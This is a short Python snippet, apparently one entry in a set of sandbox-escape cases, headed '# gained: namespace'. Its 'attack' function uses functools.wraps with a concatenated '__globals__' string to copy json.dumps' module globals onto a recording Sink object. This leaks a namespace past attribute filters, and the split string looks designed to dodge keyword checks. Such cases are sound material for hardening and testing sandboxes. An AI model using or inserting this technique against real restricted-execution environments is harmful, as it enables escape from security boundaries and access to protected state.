# gained: namespace
import functools as ft
from typing import Any, cast
import json

HEARD: list[Any] = []


class Sink:
    def __setattr__(self, name: str, value: Any) -> None:
        HEARD.append(value)


def attack(path: str) -> Any:
    copier: Any = ft.wraps
    copier(json.dumps, ("__glo" + "bals__",), ())(Sink())
    return HEARD[0]
